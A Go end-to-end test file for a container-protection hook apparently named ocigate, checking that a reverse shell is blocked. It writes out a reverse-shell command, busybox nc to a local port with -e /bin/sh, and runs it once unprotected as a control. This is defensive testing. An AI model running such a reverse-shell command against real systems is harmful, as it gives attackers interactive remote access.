package e2e

import (
	"strconv"
	"strings"
	"testing"
	"time"
)

// busyboxNcExecFailed is busybox nc's exit code when its -e program
// cannot be executed ("nc: can't execute '/bin/sh': ...", on stderr).
const busyboxNcExecFailed = 1

// reverseShellArgs connects to the attacker's port and runs a shell on the
// socket: busybox nc -e puts the connection on the shell's stdin and stdout.
func reverseShellArgs(port int) []string {
	return []string{"/bin/busybox", "nc", "127.0.0.1", strconv.Itoa(port), "-e", "/bin/sh"}
}

func TestReverseShell(t *testing.T) {
	requireE2E(t)
	// Control: without ocigate the same container does give the attacker a
	// shell, so the protected run below proves something.
	t.Run("control-unprotected", func(t *testing.T) {
		ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
		res := runContainer(t, ctrOpts{Name: "revshell-control", NoHook: true, Args: reverseShellArgs(ln.Port())})
		if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
			t.Fatalf("unprotected reverse shell did not answer %q (received %q); %v",
				reverseShellAnswer, ln.Received(), res)
		}
	})
	t.Run("protected", func(t *testing.T) {
		ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
		res := runContainer(t, ctrOpts{Name: "revshell", Args: reverseShellArgs(ln.Port())})
		if !ln.WaitConn(time.Second) {
			t.Errorf("the reverse connection itself (to an allowed address) never arrived; %v", res)
		}
		if ln.WaitReceived(reverseShellAnswer, 2*time.Second) {
			t.Errorf("the attacker got a shell: listener received %q; %v", ln.Received(), res)
		}
		if got := ln.Received(); strings.TrimSpace(got) != "" {
			t.Errorf("the listener received shell output %q; %v", got, res)
		}
		// busybox nc exits 1 when it cannot execute the shell.
		checkExecExit(t, res, res.ExitCode, res.Stderr, busyboxNcExecFailed)
		waitExecRefused(t, res.ID, shellExec(res.ID, ""))
	})
}
